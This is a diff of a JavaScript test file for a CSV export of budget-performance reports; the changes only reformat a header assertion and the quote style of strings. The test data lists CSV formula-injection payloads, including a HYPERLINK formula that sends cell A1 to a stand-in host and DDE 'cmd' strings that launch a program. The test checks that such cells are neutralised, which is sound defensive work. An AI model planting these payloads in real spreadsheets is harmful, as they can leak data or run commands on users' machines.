@@ -10,7 +10,9 @@ describe('reportsCsv', () => {
     const csv = reportsCsv(reports);
     expect(csv.charCodeAt(0)).toBe(0xfeff);
     const lines = csv.slice(1).trimEnd().split('\r\n');
-    expect(lines[0]).toBe('id,单位,单位全称,区,年度,预算数(万元),预算数为推算,支出数(万元),支出数为推算,执行率(%),执行率为推算,自评得分,等级,等级由得分推算,指标达成数,指标数');
+    expect(lines[0]).toBe(
+      'id,单位,单位全称,区,年度,预算数(万元),预算数为推算,支出数(万元),支出数为推算,执行率(%),执行率为推算,自评得分,等级,等级由得分推算,指标达成数,指标数',
+    );
     expect(lines).toHaveLength(reports.length + 1);
   });
 
@@ -28,9 +30,9 @@ describe('reportsCsv', () => {
   it('makes every text cell that a spreadsheet would run as a formula read as text, and leaves numbers alone', () => {
     const hostile = [
       '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
-      '+cmd|\' /C calc\'!A0',
+      "+cmd|' /C calc'!A0",
       '-2+3',
-      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
       '\t=1+1',
       '\r=1+1',
     ];
